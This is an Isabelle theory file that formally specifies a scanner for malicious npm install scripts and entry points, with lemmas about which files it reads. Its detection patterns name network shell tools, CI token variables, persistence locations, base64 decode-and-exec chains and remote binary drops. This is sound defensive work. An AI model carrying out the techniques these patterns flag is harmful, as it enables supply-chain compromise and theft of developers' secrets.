(* ===== verification/NpmInstaller.thy ===== *)
theory NpmInstaller
  imports JsPackers Anomaly Extract
begin

text \<open>
  What an npm package runs when it is installed: \<^verbatim>\<open>ecosystems/npm/installer.py\<close>. Paths are lists of components and
  \<^verbatim>\<open>resolve\<close> is lexical, since extraction leaves no links. The file system is a record of functions of the path;
  \<open>loads\<close> is \<^verbatim>\<open>json.loads\<close>, \<^const>\<open>None\<close> for \<^verbatim>\<open>ValueError\<close>, and \<open>tools\<close> the list of the pack. The dash of the messages is a hyphen.
\<close>

record package_fs =
  pf_is_file :: "path \<Rightarrow> bool"
  pf_read :: "path \<Rightarrow> string option"
  pf_subdirs :: "string list" \<comment> \<open>the directories below the root, in the order of \<^verbatim>\<open>iterdir\<close>\<close>

definition inst_finding :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> finding" where
  "inst_finding rel rid sev conf ev = at_file rel None (''installer.'' @ rid) ''installer'' sev conf ev"

section \<open>Patterns of shell commands\<close>

definition words_ci :: "string list \<Rightarrow> regex" where
  "words_ci ws = seqs [Boundary, any_lits_ci ws, Boundary]"

definition spaces :: regex where
  "spaces = plus1 (Sat is_space)"

definition buffer_base64 :: regex where
  "buffer_base64 = seqs [lit ''Buffer.from('', star (none_of '')''), quote_mark, lit ''base64'', quote_mark]"

definition buffer_base64_ci :: regex where
  "buffer_base64_ci = seqs [lit_ci ''Buffer.from('', star (none_of '')''), quote_mark, lit_ci ''base64'', quote_mark]"

definition shell_net :: regex where
  "shell_net = alts
    [words_ci [''curl'', ''wget'', ''fetch'', ''nc'', ''ncat'', ''certutil'', ''bitsadmin'', ''Invoke-WebRequest'', ''iwr'', ''scp'', ''rsync''],
     seqs [lit_ci ''http'', opt (lit_ci ''s''), lit ''://''], lit_ci ''ftp://'']"

definition shell_exec :: regex where
  "shell_exec = alts
    [seqs [words_ci [''sh'', ''bash'', ''zsh'', ''cmd'', ''powershell'', ''pwsh''], spaces, lit ''-'', star (Sat word_char), lit_ci ''c''],
     words_ci [''eval''], words_ci [''exec''],
     seqs [words_ci [''node''], spaces, lit_ci ''-e''], seqs [Boundary, lit_ci ''python'', opt (lit ''3''), Boundary, spaces, lit_ci ''-c''],
     seqs [words_ci [''perl''], spaces, lit_ci ''-e''], seqs [words_ci [''ruby''], spaces, lit_ci ''-e'']]"

definition shell_decode :: regex where
  "shell_decode = alts
    [seqs [lit_ci ''base64'', spaces, any_lits_ci [''-d'', ''--decode'']], words_ci [''atob''], seqs [words_ci [''xxd''], spaces, lit_ci ''-r''],
     buffer_base64_ci]"

section \<open>Patterns of JavaScript\<close>

definition js_net :: regex where
  "js_net = alts
    [seqs [lit_ci ''require('', sp, quote_mark, alts [Cat (lit_ci ''http'') (opt (lit_ci ''s'')), lit_ci ''net'', lit_ci ''dns'', lit_ci ''tls'', lit_ci ''dgram''],
       quote_mark, sp, lit '')''],
     words_ci [''fetch'', ''axios'', ''node-fetch'', ''got'', ''undici'', ''superagent''],
     seqs [Boundary, lit_ci ''http'', opt (lit_ci ''s''), lit ''.'', any_lits_ci [''get'', ''request''], Boundary],
     words_ci [''XMLHttpRequest'']]"

definition js_exec :: regex where
  "js_exec = alts
    [seqs [lit ''require('', sp, quote_mark, lit ''child_process'', quote_mark, sp, lit '')''],
     seqs [Boundary, lit ''child_process'', Boundary],
     seqs [Boundary, any_lits [''exec'', ''execSync'', ''spawn'', ''spawnSync'', ''execFile'', ''fork''], sp, lit ''(''],
     seqs [Boundary, lit ''eval'', sp, lit ''(''], seqs [lit ''new'', spaces, lit ''Function'', sp, lit ''(''],
     seqs [lit ''process.binding'', sp, lit ''('']]"

definition js_decode :: regex where
  "js_decode = Or buffer_base64 (seqs [Boundary, lit ''atob'', sp, lit ''(''])"

definition js_host_recon :: regex where
  "js_host_recon = alts
    [seqs [Boundary, lit_ci ''os.'', any_lits_ci [''hostname'', ''userInfo''], sp, lit ''(''], words_ci [''whoami'', ''systeminfo''],
     seqs [Boundary, lit_ci ''uname'', spaces, lit ''-''], seqs [Boundary, lit_ci ''id'', spaces, lit_ci ''-un'', Boundary],
     seqs [lit_ci ''echo'', spaces, lit_ci ''%USERNAME%'']]"

definition js_net_recon :: regex where
  "js_net_recon = Or (seqs [Boundary, lit_ci ''os.networkInterfaces'', sp, lit ''(''])
     (seqs [Boundary, alts [lit_ci ''ifconfig'', lit_ci ''ipconfig'', seqs [lit_ci ''ip'', spaces, lit_ci ''addr'']], Boundary])"

definition js_ci_harvest :: regex where
  "js_ci_harvest = any_lits [''GITHUB_TOKEN'', ''GITHUB_ACTOR'', ''GITHUB_REPOSITORY'', ''GH_TOKEN'', ''NPM_TOKEN'', ''NODE_AUTH_TOKEN'',
     ''CIRCLECI'', ''JENKINS_URL'', ''GITLAB_CI'']"

definition slash :: regex where
  "slash = one_of [CHR ''/'', CHR 0x5C]"

definition js_persistence :: regex where
  "js_persistence = alts
    [lit_ci ''LaunchAgents'', lit_ci ''LaunchDaemons'', words_ci [''launchctl''], Cat (lit_ci ''.plist'') Boundary,
     seqs [lit_ci ''systemd'', slash, lit_ci ''user''], words_ci [''systemctl''],
     seqs [lit_ci ''CurrentVersion'', plus1 (Sat (\<lambda>c. c = CHR 0x5C)), lit_ci ''Run''], lit_ci ''HKEY_CURRENT_USER'', words_ci [''wscript''],
     Cat (lit_ci ''.vbs'') Boundary, seqs [slash, lit_ci ''.config'', slash, lit_ci ''autostart''], words_ci [''crontab''], lit_ci ''/etc/cron'']"

definition js_detached_spawn :: regex where
  "js_detached_spawn = seqs [lit_ci ''detached'', sp, lit '':'', sp, lit_ci ''true'']"

definition hex_char :: "char \<Rightarrow> bool" where
  "hex_char c \<longleftrightarrow> is_digit c \<or> (97 \<le> (of_char c :: nat) \<and> (of_char c :: nat) \<le> 102) \<or> (65 \<le> (of_char c :: nat) \<and> (of_char c :: nat) \<le> 70)"

definition encoded_payload :: regex where
  "encoded_payload = Or
     (Cat (Rep 200 None (Sat (\<lambda>c. alpha_char c \<or> is_digit c \<or> c \<in> set ''+/''))) (Rep 0 (Some 2) (lit ''='')))
     (Rep 50 None (seqs [Sat (\<lambda>c. c = CHR 0x5C), lit ''x'', Sat hex_char, Sat hex_char]))"

definition js_write :: regex where
  "js_write = alts
    [lit_ci ''createWriteStream'', seqs [lit_ci ''writeFileSyn'', opt (lit_ci ''c''), Boundary] , seqs [lit_ci ''.pipe'', sp, lit ''(''],
     seqs [Boundary, lit_ci ''pipeline'', sp, lit ''(''], Cat (lit_ci ''fs.write'') Boundary]"

definition octal :: "char \<Rightarrow> bool" where
  "octal c \<longleftrightarrow> c \<in> set ''01234567''"

definition exec_mode :: regex where
  "exec_mode = seqs [star (Sat octal), one_of ''1357'', Sat octal, Sat octal]"

definition js_chmod_exec :: regex where
  "js_chmod_exec = (let call = seqs [lit_ci ''chmod'', opt (lit_ci ''Sync''), sp, lit ''('', star (none_of '')'')] in alts
    [seqs [call, lit ''0'', opt (lit_ci ''o''), exec_mode],
     seqs [call, lit_ci ''S_I'', any_lits_ci [''RWX'', ''X''], opt (any_lits_ci [''USR'', ''GRP'', ''OTH''])],
     seqs [Boundary, lit_ci ''chmod'', spaces, lit_ci ''+x'', Boundary],
     seqs [Boundary, lit_ci ''chmod'', spaces, opt (lit ''0''), exec_mode, Boundary]])"

definition url_scheme :: regex where
  "url_scheme = seqs [lit_ci ''http'', opt (lit_ci ''s''), lit ''://'']"

definition host_chars :: regex where
  "host_chars = plus1 (Sat (\<lambda>c. alpha_char c \<or> is_digit c \<or> c \<in> set ''.-''))"

definition url_hosts :: "string \<Rightarrow> string list" where
  "url_hosts s = map (group_text url_scheme host_chars) (finditer (Cat url_scheme host_chars) s)"

definition checksum_verify :: regex where
  "checksum_verify = seqs [lit_ci ''createHash'', sp, lit ''('', sp, quote_mark, lit_ci ''sha'', any_lits [''256'', ''512''], quote_mark]"

section \<open>Hosts\<close>

definition trusted_release_hosts :: "string list" where
  "trusted_release_hosts = [''github.com'', ''githubusercontent.com'', ''codeload.github.com'', ''registry.npmjs.org'', ''npmjs.org'',
     ''npmmirror.com'', ''registry.yarnpkg.com'', ''nodejs.org'', ''github.io'', ''gitlab.com'', ''bitbucket.org'']"

definition word_or_dash :: "char \<Rightarrow> bool" where
  "word_or_dash c \<longleftrightarrow> word_char c \<or> c = CHR ''-''"

definition repo_shorthand :: regex where
  "repo_shorthand = seqs [At_start, plus1 (Sat word_or_dash), lit ''/'', plus1 (Sat (\<lambda>c. word_or_dash c \<or> c = CHR ''.'')), At_end]"

definition declared_host :: "string \<Rightarrow> string option" where
  "declared_host f =
    (case url_hosts f of
       h # hs \<Rightarrow> Some (lower h)
     | [] \<Rightarrow> (if prefix ''gitlab:'' f then Some ''gitlab.com''
         else if prefix ''bitbucket:'' f then Some ''bitbucket.org''
         else if prefix ''github:'' f \<or> re_match repo_shorthand f \<noteq> None then Some ''github.com'' else None))"

definition declared_hosts :: "json_dict \<Rightarrow> string list" where
  "declared_hosts data =
    (let field = (\<lambda>key. case jget data key of
           Some (JStr s) \<Rightarrow> [s]
         | Some (JObj d) \<Rightarrow> (case jget d ''url'' of Some (JStr s) \<Rightarrow> [s] | _ \<Rightarrow> [])
         | _ \<Rightarrow> []);
         home = (case jget data ''homepage'' of Some (JStr s) \<Rightarrow> [s] | _ \<Rightarrow> [])
     in nub (List.map_filter declared_host (field ''repository'' @ field ''bugs'' @ home)))"

definition host_trusted :: "string \<Rightarrow> string list \<Rightarrow> bool" where
  "host_trusted host0 declared =
    (let host = lower host0 in
     list_ex (\<lambda>t. host = t \<or> suffix (''.'' @ t) host) trusted_release_hosts \<or>
     list_ex (\<lambda>d. host = d \<or> suffix (''.'' @ d) host \<or> suffix (''.'' @ host) d) declared)"

section \<open>A script of the manifest\<close>

definition builtin_benign :: "string list" where
  "builtin_benign = [''node-gyp'', ''node-gyp-build'', ''prebuild-install'', ''prebuildify'', ''tsc'', ''tsup'', ''webpack'', ''rollup'', ''vite'',
     ''esbuild'', ''babel'', ''gulp'', ''grunt'', ''parcel'', ''rimraf'', ''mkdirp'', ''cpy'', ''copyfiles'', ''eslint'', ''prettier'', ''jest'',
     ''mocha'', ''husky'', ''patch-package'', ''npm'', ''yarn'', ''pnpm'', ''echo'', ''true'', ''exit'', ''cd'', ''node'', ''is-ci'', ''cross-env'',
     ''shx'', ''ncc'', ''tscw'', ''nest'', ''ng'']"

definition benign_tools :: "string list \<Rightarrow> string list" where
  "benign_tools tools = (if tools = [] then builtin_benign else map lower tools)"

text \<open>The loop over the segments; \<open>saw\<close> is \<^verbatim>\<open>saw_cmd\<close>.\<close>

fun benign_segments :: "string list \<Rightarrow> bool \<Rightarrow> string list \<Rightarrow> bool" where
  "benign_segments benign saw [] = saw"
| "benign_segments benign saw (seg0 # segs) =
    (let seg = strip seg0 in
     if seg = [] then benign_segments benign saw segs
     else (case shlex Between False [] seg of
         None \<Rightarrow> False
       | Some [] \<Rightarrow> benign_segments benign saw segs
       | Some (t # ts) \<Rightarrow>
           (let head = lower (path_name t) in
            if head = ''node'' \<and> ts \<noteq> [] \<and> \<not> prefix ''-'' (hd ts) then False
            else if head \<notin> set benign then False
            else benign_segments benign True segs)))"

definition is_benign_script :: "string list \<Rightarrow> string \<Rightarrow> bool" where
  "is_benign_script tools script = benign_segments (benign_tools tools) False (split_commands [] script)"

definition analyze_script :: "string list \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> finding list" where
  "analyze_script tools name script rel =
    (if is_benign_script tools script then []
     else (let net = re_found shell_net script; exec = re_found shell_exec script; decode = re_found shell_decode script in
       if net \<and> (exec \<or> decode)
       then [inst_finding rel ''npm_lifecycle_net_exec'' ''critical'' ''high'' (name @ '' script chains network fetch + exec/decode: '' @ take 160 script)]
       else if net then [inst_finding rel ''npm_lifecycle_network'' ''high'' ''medium'' (name @ '' script makes a network call: '' @ take 160 script)]
       else if exec \<or> decode then [inst_finding rel ''npm_lifecycle_subprocess'' ''medium'' ''medium'' (name @ '' script runs a shell/eval: '' @ take 160 script)]
       else []))"

section \<open>Files a script runs\<close>

definition inst_shells :: "string list" where
  "inst_shells = [''sh'', ''bash'', ''dash'', ''zsh'', ''ksh'', ''ash'']"

text \<open>\<^verbatim>\<open>(dir / ref).resolve()\<close>: an absolute reference replaces the directory.\<close>

definition join_resolve :: "path \<Rightarrow> string \<Rightarrow> path" where
  "join_resolve dir ref = resolve_onto (if prefix ''/'' ref then [] else dir) (path_parts ref)"

definition inside :: "path \<Rightarrow> path \<Rightarrow> bool" where
  "inside dir target \<longleftrightarrow> prefix dir target"

definition segment_target :: "package_fs \<Rightarrow> path \<Rightarrow> string \<Rightarrow> (string \<times> path) option" where
  "segment_target fs dir seg =
    (case shlex Between False [] (strip seg) of
       Some (t # ts) \<Rightarrow>
         (let cand = (if lower (path_name t) \<in> set inst_shells \<and> ts \<noteq> []
               then (case find (\<lambda>x. \<not> prefix ''-'' x) ts of None \<Rightarrow> t | Some x \<Rightarrow> x) else t);
              target = join_resolve dir cand
          in if CHR ''/'' \<notin> set cand \<and> \<not> prefix ''.'' cand then None
             else if inside dir target \<and> pf_is_file fs target then Some (cand, target) else None)
     | _ \<Rightarrow> None)"

definition executed_local_targets :: "package_fs \<Rightarrow> path \<Rightarrow> string \<Rightarrow> (string \<times> path) list" where
  "executed_local_targets fs dir script = List.map_filter (segment_target fs dir) (split_commands [] script)"

definition js_ts_suffixes :: "string list" where
  "js_ts_suffixes = [''.js'', ''.cjs'', ''.mjs'', ''.jsx'', ''.ts'', ''.cts'', ''.mts'', ''.tsx'']"

definition bundled_exec :: "package_fs \<Rightarrow> path \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> finding list" where
  "bundled_exec fs dir hook script rel_prefix =
    concat (map (\<lambda>(ref, target).
      if looks_like_compiled_binary (pf_read fs target)
      then [inst_finding (rel_prefix @ ref) ''npm_install_runs_bundled_binary'' ''critical'' ''high''
        (hook @ '' hook directly executes a bundled native binary: '' @ ref)]
      else if lower (path_suffix (path_name ref)) \<notin> set js_ts_suffixes
      then [inst_finding (rel_prefix @ ref) ''npm_install_runs_bundled_file'' ''high'' ''medium''
        (hook @ '' hook directly executes a bundled non-JS file: '' @ ref)]
      else []) (executed_local_targets fs dir script))"

definition ref_class :: regex where
  "ref_class = plus1 (Sat (\<lambda>c. word_char c \<or> c \<in> set ''./-''))"

definition local_ref_prefix :: regex where
  "local_ref_prefix = Cat (Or At_start (Sat is_space)) (opt (lit ''./''))"

definition local_ref :: regex where
  "local_ref = seqs [ref_class, lit ''.'', Or (seqs [opt (one_of ''cm''), lit ''js'', opt (lit ''x'')]) (seqs [opt (one_of ''cm''), lit ''ts'', opt (lit ''x'')]), Boundary]"

definition interp_prefix :: regex where
  "interp_prefix = seqs [Or At_start (Sat (\<lambda>c. is_space c \<or> c \<in> set '';&|()'')), any_lits [''node'', ''tsx'', ''ts-node'', ''babel-node''], spaces,
     star (seqs [lit ''-'', opt (lit ''-''), plus1 (Sat (\<lambda>c. \<not> is_space c)), spaces]), opt (lit ''./'')]"

definition resolve_exts :: "string list" where
  "resolve_exts = [''.js'', ''.cjs'', ''.mjs'', ''.ts'', ''.cts'', ''.mts'']"

definition interp_target :: "package_fs \<Rightarrow> path \<Rightarrow> string \<Rightarrow> string option" where
  "interp_target fs dir ref =
    (if lower (path_suffix (path_name ref)) \<in> set js_ts_suffixes then None
     else (case find (\<lambda>ext. pf_is_file fs (join_resolve dir (ref @ ext))) resolve_exts of
         Some ext \<Rightarrow> Some (ref @ ext)
       | None \<Rightarrow> (if pf_is_file fs (join_resolve dir (ref @ ''/index.js'')) then Some (rstrip_by (\<lambda>c. c = CHR ''/'') ref @ ''/index.js'') else None)))"

text \<open>\<^verbatim>\<open>_add\<close>: each target once.\<close>

definition add_ref :: "path \<Rightarrow> string \<Rightarrow> (string \<times> path) list \<Rightarrow> (string \<times> path) list" where
  "add_ref dir ref cs = (let target = join_resolve dir ref in if target \<in> snd ` set cs then cs else cs @ [(ref, target)])"

definition followed :: "package_fs \<Rightarrow> path \<Rightarrow> string \<Rightarrow> (string \<times> path) list" where
  "followed fs dir script =
    (let direct = map (group_text local_ref_prefix local_ref) (finditer (Cat local_ref_prefix local_ref) script);
         interp = List.map_filter (interp_target fs dir) (map (group_text interp_prefix ref_class) (finditer (Cat interp_prefix ref_class) script))
     in filter (\<lambda>(ref, target). inside dir target \<and> pf_is_file fs target) (fold (add_ref dir) (direct @ interp) []))"

section \<open>The scripts that are followed\<close>

definition recon_findings :: "string \<Rightarrow> string \<Rightarrow> finding list" where
  "recon_findings content rel =
    (let host = re_found js_host_recon content; netr = re_found js_net_recon content; ci = re_found js_ci_harvest content in
     (if host then [inst_finding rel ''npm_install_host_recon'' ''medium'' ''medium'' ''install script gathers host info (hostname/user/whoami/uname)''] else []) @
     (if netr then [inst_finding rel ''npm_install_network_recon'' ''medium'' ''medium'' ''install script enumerates network interfaces / internal IPs''] else []) @
     (if ci then [inst_finding rel ''npm_install_ci_secret_harvest'' ''high'' ''medium'' ''install script reads CI / GitHub Actions secrets or tokens''] else []) @
     (if (host \<or> netr \<or> ci) \<and> re_found js_net content
      then [inst_finding rel ''npm_install_recon_exfil'' ''high'' ''high''
        ''install script collects system/network/CI recon and sends it over the network''] else []))"

definition drop_findings :: "string list \<Rightarrow> string \<Rightarrow> string \<Rightarrow> finding list" where
  "drop_findings declared content rel =
    (if re_found js_net content \<and> re_found js_write content \<and> re_found js_chmod_exec content
     then (let hosts = nub (map lower (url_hosts content)); untrusted = sort (filter (\<lambda>h. \<not> host_trusted h declared) hosts) in
       if untrusted \<noteq> []
       then (if re_found checksum_verify content
         then [inst_finding rel ''npm_install_remote_binary_drop'' ''low'' ''medium''
           (''checksum-verified prebuilt-binary download (legit native-wrapper pattern); hosts: '' @ join '', '' (take 3 untrusted))]
         else [inst_finding rel ''npm_install_remote_binary_drop'' ''high'' ''high''
           (''install script downloads + chmod-executes a binary from a host unrelated to the package repo: '' @ join '', '' (take 3 untrusted))])
       else if hosts = []
       then [inst_finding rel ''npm_install_remote_binary_drop'' ''medium'' ''medium''
         ''install script downloads + chmod-executes a binary from a dynamic URL'']
       else [])
     else [])"

definition script_findings :: "string list \<Rightarrow> string \<Rightarrow> string \<Rightarrow> finding list" where
  "script_findings declared content rel =
    (let net = re_found js_net content; exec = re_found js_exec content;
         persist = re_found js_persistence content; detached = re_found js_detached_spawn content in
     recon_findings content rel @
     (if net \<and> exec then [inst_finding rel ''npm_install_script_net_exec'' ''critical'' ''high'' ''install script JS contains both network and child_process/eval'']
      else if net then [inst_finding rel ''npm_install_script_network'' ''high'' ''medium'' ''install script JS makes a network call''] else []) @
     (if re_found js_decode content \<and> exec
      then [inst_finding rel ''npm_install_script_decode_exec'' ''high'' ''medium'' ''install script JS decodes base64 then executes''] else []) @
     (if exec \<and> (re_found charcode_decode content \<or> re_found crypto_decrypt content)
      then [inst_finding rel ''npm_install_obfuscated_entrypoint'' ''critical'' ''high''
        ''install hook runs a local script that self-decodes (char-code / runtime-crypto) into eval/Function''] else []) @
     (if persist \<and> detached
      then [inst_finding rel ''npm_install_persistence_loader'' ''critical'' ''high''
        ''install hook registers OS persistence + detaches a background process (resident-agent loader)'']
      else
       (if persist then [inst_finding rel ''npm_install_persistence'' ''high'' ''high''
          ''install hook registers OS persistence (systemd/launchd/Run-key/autostart/cron)''] else []) @
       (if detached then [inst_finding rel ''npm_install_detached_spawn'' ''high'' ''medium''
          (''install hook spawns a detached, unref'' @ [CHR 0x27] @ ''d background process'')] else [])) @
     (if re_found encoded_payload content
      then [inst_finding rel ''npm_install_script_encoded_payload'' ''medium'' ''medium'' ''large encoded payload in install script JS''] else []) @
     drop_findings declared content rel)"

definition referenced_js :: "package_fs \<Rightarrow> path \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> finding list" where
  "referenced_js fs dir script rel_prefix declared =
    concat (map (\<lambda>(ref, target).
      if looks_like_compiled_binary (pf_read fs target) then []
      else (case pf_read fs target of None \<Rightarrow> [] | Some content \<Rightarrow> script_findings declared content (rel_prefix @ ref)))
      (followed fs dir script))"

section \<open>Entry points\<close>

definition suspicious_bin_ext :: "string list" where
  "suspicious_bin_ext = [''.sh'', ''.ps1'', ''.bat'', ''.cmd'', ''.exe'', ''.dll'', ''.so'', ''.bin'']"

text \<open>\<open>show\<close> is \<^verbatim>\<open>str\<close> of a decoded value that is no string.\<close>

definition bin_findings :: "(json \<Rightarrow> string) \<Rightarrow> json option \<Rightarrow> string \<Rightarrow> finding list" where
  "bin_findings show_json bin_field rel =
    (let targets = (case bin_field of
           Some (JStr s) \<Rightarrow> [s]
         | Some (JObj d) \<Rightarrow> map (\<lambda>(k, v). case v of JStr s \<Rightarrow> s | _ \<Rightarrow> show_json v) d
         | _ \<Rightarrow> [])
     in map (\<lambda>t. inst_finding rel ''npm_suspicious_bin'' ''low'' ''low'' (''bin entry points to a script/binary: '' @ t))
          (filter (\<lambda>t. lower (path_suffix (path_name t)) \<in> set suspicious_bin_ext) targets))"

definition entry_exts :: "string list" where
  "entry_exts = [[], ''.js'', ''.cjs'', ''.mjs'', ''/index.js'']"

text \<open>The first candidate of a reference that is a file not seen before; a candidate outside ends the search.\<close>

fun entry_file :: "package_fs \<Rightarrow> path \<Rightarrow> path list \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> path option" where
  "entry_file fs dir seen ref [] = None"
| "entry_file fs dir seen ref (ext # exts) =
    (let cand = join_resolve dir (ref @ ext) in
     if \<not> inside dir cand then None
     else if pf_is_file fs cand \<and> cand \<notin> set seen then Some cand
     else entry_file fs dir seen ref exts)"

fun entry_files :: "package_fs \<Rightarrow> path \<Rightarrow> path list \<Rightarrow> string list \<Rightarrow> (string \<times> path) list" where
  "entry_files fs dir seen [] = []"
| "entry_files fs dir seen (ref0 # refs) =
    (let ref = lstrip_by (\<lambda>c. c \<in> set ''./'') ref0 in
     case entry_file fs dir seen ref entry_exts of
       None \<Rightarrow> entry_files fs dir seen refs
     | Some cand \<Rightarrow> (ref, cand) # entry_files fs dir (cand # seen) refs)"

definition entry_refs :: "json_dict \<Rightarrow> string list" where
  "entry_refs data =
    (case jget data ''main'' of Some (JStr s) \<Rightarrow> (if s = [] then ''index.js'' else s) | _ \<Rightarrow> ''index.js'') #
    (case jget data ''bin'' of
       Some (JStr s) \<Rightarrow> [s]
     | Some (JObj d) \<Rightarrow> List.map_filter (\<lambda>(k, v). case v of JStr s \<Rightarrow> Some s | _ \<Rightarrow> None) d
     | _ \<Rightarrow> [])"

definition runtime_entrypoints :: "int \<Rightarrow> package_fs \<Rightarrow> json_dict \<Rightarrow> path \<Rightarrow> string \<Rightarrow> finding list" where
  "runtime_entrypoints limit fs data dir rel_prefix =
    concat (map (\<lambda>(ref, target).
      let rel = rel_prefix @ ref in
      if is_build_bundle rel \<or> looks_like_compiled_binary (pf_read fs target) then []
      else (case pf_read fs target of
          None \<Rightarrow> []
        | Some content \<Rightarrow>
            (let charcode = feeds_eval limit charcode_decode content; crypto = feeds_eval limit crypto_decrypt content;
                 is_main = (case jget data ''main'' of
                     Some (JStr s) \<Rightarrow> ref = (if s = [] then ''index.js'' else s)
                   | Some v \<Rightarrow> \<not> jtruthy v \<and> ref = ''index.js'' | None \<Rightarrow> ref = ''index.js'')
             in if charcode \<or> crypto
                then [inst_finding rel ''npm_runtime_obfuscated_entrypoint'' ''critical'' ''high''
                  (''package '' @ (if is_main then ''main'' else ''bin'') @ '' entry self-decodes ('' @ (if charcode then ''char-code'' else ''runtime-crypto'') @
                   '') into eval/Function - the whole module is an opaque runtime loader'')]
                else []))) (entry_files fs dir [] (entry_refs data)))"

section \<open>Native builds\<close>

definition gyp_prefix :: regex where
  "gyp_prefix = seqs [lit ''<!'', opt (lit ''@''), lit ''('']"

definition gyp_inner :: regex where
  "gyp_inner = Cat (star (none_of '')'')) (lit '')'')"

definition python_word :: regex where
  "python_word = Cat (lit ''python'') (star (Sat (\<lambda>c. is_digit c \<or> c = CHR ''.'')))"

definition gyp_runs_script_file :: regex where
  "gyp_runs_script_file = seqs [Boundary, alts [lit ''node'', lit ''bun'', lit ''deno'', lit ''sh'', lit ''bash'', lit ''zsh'', python_word, lit ''ruby'', lit ''perl''],
     spaces, star (Sat (\<lambda>c. \<not> is_space c \<and> c \<notin> set ''|&;<>'')), lit ''.'', any_lits [''js'', ''cjs'', ''mjs'', ''ts'', ''sh'', ''bash'', ''py'', ''rb'', ''pl''], Boundary]"

definition gyp_config_eval :: regex where
  "gyp_config_eval = seqs [At_start, sp, alts [lit ''node'', lit ''bun'', lit ''deno'', python_word], spaces,
     any_lits [''-p'', ''-e'', ''--print'', ''--eval'', ''-c''], Boundary]"

definition gyp_shell_op :: regex where
  "gyp_shell_op = any_lits [''&&'', ''||'', '';'', ''|'', ''>'', ''2>&1'', [CHR 0x60], ''$('']"

definition gyp_fetch :: regex where
  "gyp_fetch = seqs [Boundary, any_lits [''curl'', ''wget'', ''fetch'', ''Invoke-WebRequest'', ''iwr''], Boundary]"

fun gyp_loop :: "string \<Rightarrow> string list \<Rightarrow> string list \<Rightarrow> finding list" where
  "gyp_loop rel seen [] = []"
| "gyp_loop rel seen (inner # inners) =
    (let cmd = strip (strip_by (\<lambda>c. c = CHR 0x22 \<or> c = CHR 0x27) (strip inner));
         runs = re_found gyp_runs_script_file cmd; shell = re_found gyp_shell_op cmd; fetch = re_found gyp_fetch cmd
     in if cmd = [] \<or> cmd \<in> set seen then gyp_loop rel seen inners
        else if re_match gyp_config_eval cmd \<noteq> None \<and> \<not> (runs \<or> shell \<or> fetch) then gyp_loop rel seen inners
        else inst_finding rel ''npm_binding_gyp_command_exec'' (if runs \<or> fetch then ''critical'' else ''high'') ''high''
            (''binding.gyp runs code at install time via node-gyp command-expansion (bypasses lifecycle scripts): <!('' @ take 140 cmd @ '')'')
          # gyp_loop rel (cmd # seen) inners)"

definition binding_gyp_findings :: "string \<Rightarrow> string \<Rightarrow> finding list" where
  "binding_gyp_findings content rel =
    gyp_loop rel [] (map (\<lambda>m. butlast (group_text gyp_prefix gyp_inner m)) (finditer (Cat gyp_prefix gyp_inner) content))"

section \<open>The analyzer\<close>

record inst_env =
  ie_tools :: "string list"
  ie_loads :: "string \<Rightarrow> json option"
  ie_show :: "json \<Rightarrow> string"
  ie_limit :: int

definition npm_hooks :: "string list" where
  "npm_hooks = [''preinstall'', ''install'', ''postinstall'', ''prepare'']"

definition rel_path :: "path \<Rightarrow> path \<Rightarrow> string" where
  "rel_path base p = join ''/'' (drop (length base) p)"

definition analyze_manifest :: "inst_env \<Rightarrow> package_fs \<Rightarrow> path \<Rightarrow> path \<Rightarrow> finding list" where
  "analyze_manifest e fs base dir =
    (case pf_read fs (dir @ [''package.json'']) of
       None \<Rightarrow> []
     | Some text \<Rightarrow>
         (case ie_loads e text of
            Some (JObj data) \<Rightarrow>
              (let rel = rel_path base (dir @ [''package.json'']);
                   rel_prefix = (if dir \<noteq> base then rel_path base dir @ ''/'' else []);
                   declared = declared_hosts data;
                   hook = (\<lambda>scripts h. case jget scripts h of
                       Some (JStr script) \<Rightarrow>
                         (if strip script = [] then []
                          else analyze_script (ie_tools e) h script rel @ bundled_exec fs dir h script rel_prefix @
                            referenced_js fs dir script rel_prefix declared)
                     | _ \<Rightarrow> [])
               in (case jget data ''scripts'' of Some (JObj scripts) \<Rightarrow> concat (map (hook scripts) npm_hooks) | _ \<Rightarrow> []) @
                  bin_findings (ie_show e) (jget data ''bin'') rel @ runtime_entrypoints (ie_limit e) fs data dir rel_prefix)
          | _ \<Rightarrow> []))"

definition root_manifest_dirs :: "package_fs \<Rightarrow> path \<Rightarrow> path list" where
  "root_manifest_dirs fs base =
    (if pf_is_file fs (base @ [''package.json'']) then [base] else []) @
    filter (\<lambda>d. pf_is_file fs (d @ [''package.json''])) (map (\<lambda>c. base @ [c]) (filter (\<lambda>c. c \<noteq> ''node_modules'') (pf_subdirs fs)))"

definition analyze_install_scripts :: "inst_env \<Rightarrow> package_fs \<Rightarrow> path \<Rightarrow> finding list" where
  "analyze_install_scripts e fs base =
    concat (map (\<lambda>dir. analyze_manifest e fs base dir @
        (let gyp = dir @ [''binding.gyp''] in
         if pf_is_file fs gyp
         then binding_gyp_findings (case pf_read fs gyp of None \<Rightarrow> [] | Some c \<Rightarrow> c) (rel_path base gyp) else []))
      (root_manifest_dirs fs base))"

section \<open>What is read\<close>

text \<open>Two file systems that differ in what files outside a directory contain only.\<close>

definition same_inside :: "path \<Rightarrow> package_fs \<Rightarrow> package_fs \<Rightarrow> bool" where
  "same_inside dir fs fs' \<longleftrightarrow> pf_is_file fs = pf_is_file fs' \<and> pf_subdirs fs = pf_subdirs fs' \<and>
     (\<forall>p. inside dir p \<longrightarrow> pf_read fs p = pf_read fs' p)"

lemma same_inside_mono: "same_inside base fs fs' \<Longrightarrow> inside base dir \<Longrightarrow> same_inside dir fs fs'"
  unfolding same_inside_def inside_def using prefix_order.trans by blast

lemma inside_append [simp]: "inside dir (dir @ xs)"
  by (simp add: inside_def)

lemma segment_target_inside: "segment_target fs dir seg = Some (ref, target) \<Longrightarrow> inside dir target"
  by (auto simp: segment_target_def Let_def split: option.splits list.splits if_splits)

lemma executed_inside: "(ref, target) \<in> set (executed_local_targets fs dir script) \<Longrightarrow> inside dir target"
  unfolding executed_local_targets_def in_map_filter using segment_target_inside by blast

lemma followed_inside: "(ref, target) \<in> set (followed fs dir script) \<Longrightarrow> inside dir target"
  by (simp add: followed_def Let_def)

lemma entry_file_inside: "entry_file fs dir seen ref exts = Some cand \<Longrightarrow> inside dir cand"
